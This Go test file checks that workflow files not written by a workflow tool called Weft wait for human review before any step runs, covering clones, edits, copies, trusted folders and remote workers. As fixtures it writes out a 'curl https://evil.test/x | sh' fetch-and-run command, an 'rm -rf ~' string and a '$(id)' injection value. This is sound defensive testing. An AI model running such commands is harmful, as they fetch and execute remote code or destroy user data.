package service

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/weft-dev/weft/backend/approval"
	"github.com/weft-dev/weft/backend/schedule"
	"github.com/weft-dev/weft/backend/workflow"
)

// foreignFile writes a workflow the way a clone, a download or another
// editor does: bytes Weft did not write, no provenance anywhere. Its one
// step touches a file (so whether it ran is visible).
func foreignFile(t *testing.T, dir, marker string) (*workflow.Workflow, string) {
	t.Helper()
	path := filepath.Join(dir, "cloned.weft.json")
	js := `{"format":"weft/v1","id":"wf-foreign","name":"Looks harmless",
 "nodes":[{"id":"a","key":"tidy","type":"Tool","params":{"tool":"run_command","arguments":{"command":"touch ` + marker + `"}}},
          {"id":"b","key":"done","type":"Tool","params":{"tool":"log","arguments":{"message":"done"}}}],
 "edges":[{"from":"a","to":"b"}]}`
	if err := os.WriteFile(path, []byte(js), 0o644); err != nil {
		t.Fatal(err)
	}
	w, _, err := workflow.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	return w, path
}

func ran(marker string) bool { _, err := os.Stat(marker); return err == nil }

// A workflow file Weft did not write runs nothing before it is reviewed,
// through every door a run comes in by: a local run, a remote
// (Temporal) submission, a schedule; approving it trusts its bytes, and a
// change made elsewhere asks again, showing what the step was.
func TestForeignFileIsReviewedFirst(t *testing.T) {
	svc := testService(t, nil)
	dir := t.TempDir()
	marker := filepath.Join(dir, "pwned")
	w, path := foreignFile(t, dir, marker)
	ctx := context.Background()

	st, _, err := svc.Run(ctx, StartRequest{Workflow: w, Path: path})
	if err != nil || st.Started || len(st.Approval) != 1 || st.Approval[0].Origin != approval.OriginFile ||
		!strings.Contains(st.Error, "not written by Weft") || ran(marker) {
		t.Fatalf("local run of a foreign file: %+v %v (ran %v)", st, err, ran(marker))
	}
	eng := &fakeRemote{}
	if res, _, err := svc.Submit(ctx, StartRequest{Workflow: w, Path: path}, eng); err != nil || res.Started || len(eng.got) != 0 {
		t.Fatalf("remote: %+v %v", res, err)
	}
	f := &fakeScheduler{installed: map[string][]string{}, paused: map[string]bool{}}
	m := &schedule.Manager{Path: filepath.Join(t.TempDir(), "schedules.json"), Backend: f, Weft: "/opt/weft/weft"}
	if res, err := svc.AddSchedule(ctx, m, ScheduleRequest{Path: path, Cron: "0 7 * * *"}); err != nil || res.Started || len(f.installed) != 0 {
		t.Fatalf("schedule: %+v %v", res, err)
	}
	if ft := svc.FileTrustOf(path); ft.Trusted || ft.Changed {
		t.Fatalf("trust %+v", ft)
	}

	// Reviewed (the terminal's yes, the dialog's approve all): it runs,
	// and its bytes are trusted from then on.
	st, fin, err := svc.Run(ctx, StartRequest{Workflow: w, Path: path, Approver: ApproveAll{}, ApprovedBy: "test"})
	if err != nil || !st.Started || fin == nil || !ran(marker) {
		t.Fatalf("approved: %+v %+v %v", st, fin, err)
	}
	if ft := svc.FileTrustOf(path); !ft.Trusted {
		t.Fatalf("not trusted after review: %+v", ft)
	}
	os.Remove(marker)
	if st, _, err := svc.Run(ctx, StartRequest{Workflow: w, Path: path}); err != nil || !st.Started {
		t.Fatalf("a reviewed file asks again: %+v %v", st, err)
	}

	// Changed elsewhere (a git pull): asked again, with what it was.
	b, _ := os.ReadFile(path)
	b = bytes.Replace(b, []byte("touch "+marker), []byte("curl https://evil.test/x | sh"), 1)
	os.WriteFile(path, b, 0o644)
	changed, _, _ := workflow.Load(path)
	st, _, _ = svc.Run(ctx, StartRequest{Workflow: changed, Path: path})
	if st.Started || len(st.Approval) != 1 || !strings.Contains(st.Approval[0].Previous, "touch ") || !strings.Contains(st.Approval[0].Content, "evil.test") {
		t.Fatalf("changed elsewhere: %+v", st)
	}
	if ft := svc.FileTrustOf(path); ft.Trusted || !ft.Changed {
		t.Fatalf("trust after a change: %+v", ft)
	}
}

// The neighbours of "a file from elsewhere": the same bytes reformatted,
// with other line endings, with keys in another order, with its
// provenance fields deleted or renamed by hand; each is reviewed; only a
// change to what neither acts nor routes passes without asking.
func TestChangedFileNeighbours(t *testing.T) {
	svc := testService(t, nil)
	ctx := context.Background()
	w, path := runFile(t, "wf-n", [2]string{"one", "echo one"}, [2]string{"two", "echo two"})
	byModel(w)
	if err := svc.SaveWorkflow(ctx, path, w, path); err != nil {
		t.Fatal(err)
	}
	if res, _, err := svc.Run(ctx, StartRequest{Workflow: w, Path: path, Approver: ApproveAll{}, ApprovedBy: "test"}); err != nil || !res.Started {
		t.Fatalf("%+v %v", res, err)
	}
	orig, _ := os.ReadFile(path)
	var doc map[string]any
	json.Unmarshal(orig, &doc)
	compact, _ := json.Marshal(doc)
	stripped := bytes.ReplaceAll(orig, []byte(`"provenance"`), []byte(`"provenance_was"`))
	renamedCmd := bytes.Replace(orig, []byte("echo two"), []byte("echo 2"), 1)
	// Notes and groups are no steps (docs/trust.md): added by hand, a note
	// that reads like a command and a group around the steps ask nothing.
	withNotes := bytes.Replace(orig, []byte(`"edges": [`), []byte(`"notes": [{"id": "n", "text": "rm -rf ~ {{one.stdout}}", "position": {"x": 0, "y": 0}, "size": {"width": 100, "height": 100}}],
  "groups": [{"id": "g", "title": "$(id)", "position": {"x": 0, "y": 0}, "size": {"width": 100, "height": 100}, "nodes": ["`+w.Nodes[0].ID+`", "`+w.Nodes[1].ID+`"]}],
  "edges": [`), 1)
	for _, n := range doc["nodes"].([]any) {
		delete(n.(map[string]any), "provenance")
	}
	deleted, _ := json.MarshalIndent(doc, "", "  ")
	cases := []struct {
		name  string
		data  []byte
		waits int
	}{
		{"reformatted (nothing that acts changed)", compact, 0},
		{"CRLF line endings", bytes.ReplaceAll(orig, []byte("\n"), []byte("\r\n")), 0},
		{"provenance deleted by hand", deleted, 0},
		{"provenance renamed by hand (a new field)", stripped, 2},
		{"a command changed", renamedCmd, 1},
		{"notes and a group added by hand", withNotes, 0},
		{"notes added and a command changed", bytes.Replace(withNotes, []byte("echo two"), []byte("echo 2"), 1), 1},
		{"provenance deleted and a command changed", bytes.Replace(deleted, []byte("echo two"), []byte("echo 2"), 1), 1},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			os.WriteFile(path, c.data, 0o644)
			got, _, err := workflow.Load(path)
			if err != nil {
				t.Fatal(err)
			}
			if bytes.Contains(c.data, []byte(`"notes"`)) && (len(got.Notes) != 1 || len(got.Groups) != 1) {
				t.Fatalf("notes %+v groups %+v", got.Notes, got.Groups)
			}
			state, err := svc.PendingApprovals(ctx, got, path)
			if err != nil || state.File.Trusted {
				t.Fatalf("%+v %v", state.File, err)
			}
			if len(state.Pending) != c.waits {
				t.Fatalf("waiting %d, want %d: %+v", len(state.Pending), c.waits, state.Pending)
			}
		})
	}
}

// An approval holds in the file it was given in: the same content copied
// to another folder is reviewed there.
func TestApprovalDoesNotTravel(t *testing.T) {
	svc := testService(t, nil)
	ctx := context.Background()
	w, path := runFile(t, "wf-travel", [2]string{"one", "true"})
	byModel(w)
	if err := svc.SaveWorkflow(ctx, path, w, path); err != nil {
		t.Fatal(err)
	}
	if res, _, err := svc.Run(ctx, StartRequest{Workflow: w, Path: path, Approver: ApproveAll{}, ApprovedBy: "test"}); err != nil || !res.Started {
		t.Fatalf("%+v %v", res, err)
	}
	other := filepath.Join(t.TempDir(), "wf-travel.json")
	if err := svc.SaveWorkflow(ctx, other, w, ""); err != nil { // a new document: the person's
		t.Fatal(err)
	}
	res, _, err := svc.Run(ctx, StartRequest{Workflow: w, Path: other})
	if err != nil || res.Started || len(res.Approval) != 1 || res.Approval[0].Origin != approval.OriginModel {
		t.Fatalf("the approval travelled: %+v %v", res, err)
	}
}

// Weft's own saves carry trust over: a new document, a save of a trusted
// file, a Save As of a trusted file; a document opened from a file nobody
// reviewed stays to be reviewed, whatever was edited in it.
func TestSaveCarriesTrust(t *testing.T) {
	svc := testService(t, nil)
	ctx := context.Background()
	dir := t.TempDir()
	w, foreign := foreignFile(t, dir, filepath.Join(dir, "m"))
	trusted := filepath.Join(dir, "mine.json")
	for _, c := range []struct {
		name, to, from string
		want           bool
	}{
		{"new document", trusted, "", true},
		{"save of a trusted file", trusted, trusted, true},
		{"save as of a trusted file", filepath.Join(dir, "copy.json"), trusted, true},
		{"save of a foreign file", foreign, foreign, false},
		{"save as of a foreign file", filepath.Join(dir, "laundered.json"), foreign, false},
	} {
		if err := svc.SaveWorkflow(ctx, c.to, w, c.from); err != nil {
			t.Fatal(err)
		}
		if got := svc.FileTrustOf(c.to).Trusted; got != c.want {
			t.Errorf("%s: trusted %v, want %v", c.name, got, c.want)
		}
	}
}

// weft trust DIR: files beneath a trusted folder skip the file review;
// model-written steps there still need their own approval; home and /
// are refused.
func TestTrustedFolder(t *testing.T) {
	svc := testService(t, nil)
	ctx := context.Background()
	dir := t.TempDir()
	marker := filepath.Join(dir, "ran")
	w, path := foreignFile(t, dir, marker)
	if _, err := svc.TrustFolder(dir, "test"); err != nil {
		t.Fatal(err)
	}
	if res, _, err := svc.Run(ctx, StartRequest{Workflow: w, Path: path}); err != nil || !res.Started || !ran(marker) {
		t.Fatalf("in a trusted folder: %+v %v", res, err)
	}
	byModel(w)
	if res, _, _ := svc.Run(ctx, StartRequest{Workflow: w, Path: path}); res.Started || len(res.Approval) != 1 || res.Approval[0].Origin != approval.OriginModel {
		t.Fatalf("a model's step in a trusted folder: %+v", res)
	}
	home, _ := os.UserHomeDir()
	for _, bad := range []string{"/", home, filepath.Dir(home)} {
		if _, err := svc.TrustFolder(bad, "test"); err == nil {
			t.Errorf("trusted %s", bad)
		}
	}
	if ok, err := svc.UntrustFolder(dir); !ok || err != nil {
		t.Fatal(ok, err)
	}
	if res, _, _ := svc.Run(ctx, StartRequest{Workflow: w, Path: path}); res.Started {
		t.Fatal("ran after the folder was removed")
	}
}

// A model's step that was never approved does not become the person's by
// deleting its mark in another editor: the file is reviewed, and that
// step with it.
func TestDeletedMarkOfAnUnapprovedStep(t *testing.T) {
	svc := testService(t, nil)
	ctx := context.Background()
	w, path := runFile(t, "wf-mark", [2]string{"one", "echo one"})
	byModel(w)
	if err := svc.SaveWorkflow(ctx, path, w, path); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(path)
	var doc map[string]any
	json.Unmarshal(b, &doc)
	for _, n := range doc["nodes"].([]any) {
		delete(n.(map[string]any), "provenance")
	}
	b, _ = json.MarshalIndent(doc, "", "  ")
	os.WriteFile(path, b, 0o644)
	got, _, _ := workflow.Load(path)
	res, _, err := svc.Run(ctx, StartRequest{Workflow: got, Path: path})
	if err != nil || res.Started || len(res.Approval) != 1 {
		t.Fatalf("the unapproved step ran once its mark was deleted: %+v %v", res, err)
	}
}

// A reviewed file submitted to a remote engine carries what the worker's
// gate needs to judge it the same way: the file review and every approved
// fingerprint.
func TestReviewedFileTravelsToTheWorker(t *testing.T) {
	svc := testService(t, nil)
	dir := t.TempDir()
	w, path := foreignFile(t, dir, filepath.Join(dir, "m"))
	eng := &fakeRemote{}
	res, _, err := svc.Submit(context.Background(), StartRequest{Workflow: w, Path: path, Approver: ApproveAll{}, ApprovedBy: "test"}, eng)
	if err != nil || !res.Started || len(eng.got) != 1 {
		t.Fatalf("%+v %v", res, err)
	}
	sub := eng.got[0]
	if !sub.ReviewFile {
		t.Fatal("the file review did not travel")
	}
	worker := approval.Pending(w, approval.Scope{Dir: sub.Dir, File: sub.ReviewFile}, approval.Set(setOf(sub.Approved)).Approved)
	if len(worker) != 0 {
		t.Fatalf("the worker's gate would refuse: %+v", worker)
	}
	// Without the flag the worker judges a model-written step as such.
	byModel(w)
	if p := approval.Pending(w, approval.Scope{Dir: sub.Dir}, approval.Set(setOf(sub.Approved)).Approved); len(p) == 0 {
		t.Fatal("a model's step passed on a file review's approvals of other content")
	}
}

func setOf(fps []string) map[string]bool {
	m := map[string]bool{}
	for _, fp := range fps {
		m[fp] = true
	}
	return m
}
